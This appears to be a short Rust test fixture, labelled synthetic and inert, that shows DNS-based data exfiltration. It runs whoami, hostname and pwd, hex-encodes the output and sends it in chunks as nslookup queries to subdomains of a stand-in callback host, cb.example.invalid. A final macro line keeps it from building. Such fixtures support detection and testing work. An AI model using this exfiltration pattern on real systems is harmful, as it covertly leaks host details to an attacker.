// Synthetic, inert fixture written from public reports; see README
use std::process::Command;

fn main() {
    let out = Command::new("sh").args(["-c", "whoami; hostname; pwd"]).output();
    let text = out.map(|o| o.stdout).unwrap_or_default();
    let hex: String = text.iter().map(|b| format!("{b:02x}")).collect();
    for part in hex.as_bytes().chunks(60) {
        let name = format!("{}.cb.example.invalid", String::from_utf8_lossy(part));
        let _ = Command::new("nslookup").arg(name).status();
    }
}

inert_fixture_does_not_build!();
